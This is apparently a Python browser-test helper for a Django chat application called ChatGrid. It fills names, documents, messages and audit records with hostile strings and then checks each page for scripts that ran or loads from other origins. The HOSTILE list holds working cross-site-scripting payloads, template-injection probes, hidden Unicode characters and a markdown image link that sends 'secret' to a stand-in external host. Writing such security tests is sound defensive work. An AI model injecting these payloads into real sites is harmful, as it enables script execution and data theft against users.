"""Hostile text in every place where ChatGrid shows text, and a look at each of those places.

Used by tests/browser/test_hostile_text.py with texts of our own, and by the bench (tests/bench/injection.py) with texts
from a folder that is not part of this repository.

Rules:
- `poison` writes each text as every name, title and sentence there is, one object for each text.
- `places` names every page on which one of them comes up, as whom it is looked at.
- A place holds if no script ran, nothing asked another origin for anything, no policy was violated, and the page's
  elements are none that could do so (`DANGEROUS`).
"""

from __future__ import annotations

import secrets
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from urllib.parse import quote
from uuid import UUID

from django.db.models import Model
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import Page

from audit.events import Event
from audit.writer import Entry, record
from chatgrid.accounts.models import User
from chatgrid.chat.models import Conversation, Message
from departments.calls.models import CatalogueModel
from departments.documents.records import DocumentVersion
from departments.keys.models import Finding, KeyReference, ProviderProject
from departments.limits.models import Limit
from departments.loop import run
from departments.models import Department, Membership, StoreServer
from tests.browser.conftest import Visitor, sign_in
from tests.company import PASSWORD, Company
from tests.departments.documents.shelf import add

ELSEWHERE = "https://elsewhere.example"
HOSTILE = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    f"<img src={ELSEWHERE}/a.png>",
    "\"><svg/onload=window.ran=1>",
    "' autofocus onfocus='window.ran = 1' x='",
    f"</textarea></title></style><iframe src={ELSEWHERE}/></iframe>",
    f"<style>@import '{ELSEWHERE}/x.css'; body {{ background: url({ELSEWHERE}/b.png) }}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/y.css><base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"![x]({ELSEWHERE}/i.png?d=secret) [x](javascript:window.ran=1) <a href='javascript:window.ran=1'>y</a>",
    f"![x][r]\n\n[r]: {ELSEWHERE}/r.png",
    f"<form action={ELSEWHERE}><button autofocus>ok</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    f"<video src={ELSEWHERE}/v.mp4 autoplay poster={ELSEWHERE}/p.png onloadstart=window.ran=1></video>",
    "{{ 7*7 }} {% debug %} ${window.ran=1} `${window.ran=1}`",
    f"```html\n<script>window.ran = 1</script>\n<img src={ELSEWHERE}/c.png>\n```",
    "pay \u202e01-TAG\u202c now\u200b\U000e0069\U000e0067 \ufe01 <b>\u2028bold</b>",
]  # fmt: skip
# whatever on a page could run, load or send something and is not ours; a link may lead elsewhere, after a click
DANGEROUS = """() => {
    const wrongs = [];
    const own = (value) => !value || new URL(value, location.href).origin === location.origin;
    for (const each of document.querySelectorAll("*")) {
        const name = each.localName;
        if (["iframe", "object", "embed", "base", "style", "applet", "frame", "video", "audio"].includes(name))
            wrongs.push(`<${name}>`);
        if (name === "script" && !each.src && each.type !== "application/json") wrongs.push("inline script");
        if (name === "meta" && each.httpEquiv) wrongs.push("meta http-equiv");
        for (const {name: attribute, value} of each.attributes) {
            if (attribute.startsWith("on") || attribute === "srcdoc") wrongs.push(`${name}[${attribute}]`);
            if (["src", "srcset", "action", "formaction", "poster", "data", "background"].includes(attribute)
                && !own(value)) wrongs.push(`${name}[${attribute}=${value}]`);
            if (["href", "xlink:href"].includes(attribute)
                && !(name === "a" ? /^(https:|mailto:|http:)/.test(each.href) : own(value)))
                wrongs.push(`${name}[${attribute}=${value}]`);
            if (attribute === "href" && name === "a" && each.closest(".prose")
                && !/^(https:|mailto:|#)/.test(value)) wrongs.push(`link ${value}`);
        }
    }
    return wrongs;
}"""


@dataclass(frozen=True)
class Poisoned:
    """A company in which everything has a hostile name, and where the texts were put."""

    office: Company
    conversation: Conversation
    documents: list[DocumentVersion]
    events: list[UUID]


@dataclass(frozen=True)
class Place:
    """A page, by what is shown there, and who looks at it."""

    name: str
    person: User
    address: str


def poison(office: Company, texts: Sequence[str]) -> Poisoned:
    """Each text as a person, a department, a conversation, a message, a citation, a document, a record and more."""
    texts = list(map(_storable, texts))
    _name(office.bob, "\n".join(texts)[:120])
    _name(office.hr, "".join(texts[:3])[:120])
    _name(office.organization, "".join(texts[1:4])[:120])
    Department.objects.filter(pk=office.hr.pk).update(instructions="\n".join(texts)[:8000])
    documents = [run(add(office.hr, office.alice, _document(number, text), f"{text[:60]}.md"))
                 for number, text in enumerate(texts)]  # fmt: skip
    events = [_recorded(office, text) for text in texts]
    for text in texts:
        _console(office, text)
    return Poisoned(office, _conversation(office, texts, documents), documents, events)


def places(poisoned: Poisoned) -> Iterator[Place]:
    """Every page that shows what somebody wrote, in the order of a walk: person by person."""
    office = poisoned.office
    documents = [each.document_id for each in poisoned.documents]
    yield Place("an answer, a question, a citation, a title", office.bob, f"/c/{poisoned.conversation.pk}/")
    yield Place("a new chat beside titles", office.bob, "/d/hr/")
    for at in range(0, len(documents), 50):
        yield Place("the list of documents", office.bob, f"/d/hr/documents/?from={at}")
    yield Place("a search for documents", office.bob, f"/d/hr/documents/?q={quote(HOSTILE[0])}")
    for document in documents:
        yield Place("a document", office.bob, f"/d/hr/documents/{document}/")
    yield Place("the own account", office.bob, "/accounts/password/change/")
    yield Place("signing out", office.bob, "/accounts/logout/")
    yield Place("the documents as their admin", office.alice, "/d/hr/documents/")
    for address in _console_pages(poisoned):
        yield Place("the console", office.ivan, address)
    yield Place("the record's export", office.ada, reverse("export_record"))


def look(visitor: Visitor, every: Iterator[Place]) -> Iterator[tuple[Place, list[str]]]:
    """Visits place after place, signed in as who looks; gives what was wrong at each, best an empty list."""
    page, person = visitor.page, None
    for place in every:
        if person != place.person:
            page.context.clear_cookies()
            sign_in_as(page, place.person)
            person = place.person
        page.goto(place.address)
        yield place, wrongs_here(visitor)


def sign_in_as(page: Page, person: User) -> None:
    if person.role == "member":
        sign_in(page, person.email)
        return
    page.goto("/accounts/login/")
    page.locator("input[type=email]").fill(person.email)
    page.locator("input[type=password]").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(lambda url: "login" not in url)


def wrongs_here(visitor: Visitor) -> list[str]:
    """What ran, loaded or could do so on the page that is open now; forgets it for the next page."""
    page = visitor.page
    page.wait_for_load_state()
    page.wait_for_timeout(100)  # what would load does so after a moment
    wrongs = [*visitor.wrongs, *page.evaluate(DANGEROUS)]
    if page.evaluate("window.ran") is not None:
        wrongs.append("a script ran")
    visitor.wrongs.clear()
    return wrongs


def _name(thing: User | Department | object, name: str) -> None:
    type(thing)._default_manager.filter(pk=thing.pk).update(name=name)  # type: ignore[attr-defined]


def _storable(text: str) -> str:
    """As every entry of ours cleans it before a database sees it."""
    return text.replace("\x00", "").encode("utf-8", "replace").decode()


def _document(number: int, text: str) -> str:
    return f"# {text}\n\n{text}\n\nText number {number} is of no use to anybody at all.\n"


def _conversation(office: Company, texts: Sequence[str], documents: Sequence[DocumentVersion]) -> Conversation:
    shown = Conversation.objects.create(department=office.hr, owner=office.bob, title=texts[0][:80])
    for text, version in zip(texts, documents, strict=True):
        Conversation.objects.create(department=office.hr, owner=office.bob, title=text[:80])
        cited = {"number": 1, "document": str(version.document_id), "version": str(version.id), "ordinal": 0,
                 "title": text, "headings": [text], "locator": {"sheet": text}, "quote": text, "uploader": text,
                 "uploaded_at": "2026-11-23T09:30:00+00:00"}  # fmt: skip
        Message.objects.create(conversation=shown, role="person", text=text)
        Message.objects.create(
            conversation=shown, role="assistant", text=f"{text}\n\nSo it says. [1]", citations=[cited]
        )
    Message.objects.create(conversation=shown, role="assistant", state="failed", problem=texts[-1])
    return shown


def _recorded(office: Company, text: str) -> UUID:
    entry = Entry(
        event=Event.DOCUMENT_FAILED, organization_id=office.organization.pk, organization_name=text,
        department_id=office.hr.pk, department_name=text, actor_id=office.bob.pk, actor_name=text, client_address=text,
        subject_kind="document", subject_id=text, purpose=text, model_asked=text, model_answered=text,
        passages=[text], provider_request_id=text, key_fingerprint=text, key_version=text, labels=[text],
        details={"filename": text, "reason": text, text[:40]: text},
    )  # fmt: skip
    record(entry)
    return entry.id


def _console(office: Company, text: str) -> None:
    """A person, a department and what hangs on them, each with the text wherever it takes one."""
    mark = secrets.token_hex(5)
    person = User.objects.create_user(f"{mark}@hostile.example", name=text[:120], organization=office.organization)
    server = StoreServer.objects.create(organization=office.organization, name=text[:110] + mark, host=text[:255])
    department = Department.objects.create(
        organization=office.organization, slug=f"h-{mark}", name=text[:120], instructions=text, store_server=server,
        model=text[:120],
    )  # fmt: skip
    Membership.objects.create(user=person, department=department)
    Limit.objects.create(organization=office.organization, person=person, reason=text[:200], tokens_per_day=1)
    KeyReference.objects.create(
        department=department, secret_name=text[:300] + mark, version=text[:64], fingerprint=text[:64],
        project_id=text[:64], key_id=text[:64],
    )  # fmt: skip
    ProviderProject.objects.create(
        department=department, name=text[:180] + mark, failure=text[:400], allowed_models=[text],
        alert_recipients=[text], plan_sentence=text[:400], state=ProviderProject.State.FAILED,
    )  # fmt: skip
    Finding.objects.create(
        department=department, kind=Finding.Kind.MODELS, sentence=text[:400], problem=text[:400],
        evidence={"wanted": text, text[:50]: text}, seen_at=timezone.now(),
    )  # fmt: skip
    CatalogueModel.objects.get_or_create(name=f"{text[:80]}{mark}", defaults={"kind": "chat", "context_tokens": 9})


# the console's lists, and the way from a row to its organization
LISTS: dict[str, tuple[type[Model], str]] = {
    "accounts/user": (User, "organization"),
    "departments/department": (Department, "organization"),
    "departments/membership": (Membership, "department__organization"),
    "keys/keyreference": (KeyReference, "department__organization"),
    "keys/providerproject": (ProviderProject, "department__organization"),
    "keys/finding": (Finding, "department__organization"),
    "limits/limit": (Limit, "organization"),
}


def _console_pages(poisoned: Poisoned) -> Iterator[str]:
    office = poisoned.office
    yield "/admin/"
    for name, (model, owner) in LISTS.items():
        yield f"/admin/{name}/"
        yield f"/admin/{name}/?q={quote(HOSTILE[3])}"
        for found in model._default_manager.filter(**{owner: office.organization}).exclude(pk=office.ivan.pk)[:3]:
            yield f"/admin/{name}/{found.pk}/change/"
            yield f"/admin/{name}/{found.pk}/history/"
    yield "/admin/departments/organization/"
    yield f"/admin/departments/organization/{office.organization.pk}/change/"
    yield "/admin/calls/cataloguemodel/"
    yield "/admin/audit/auditevent/"
    for event in poisoned.events:
        yield f"/admin/audit/auditevent/{event}/change/"
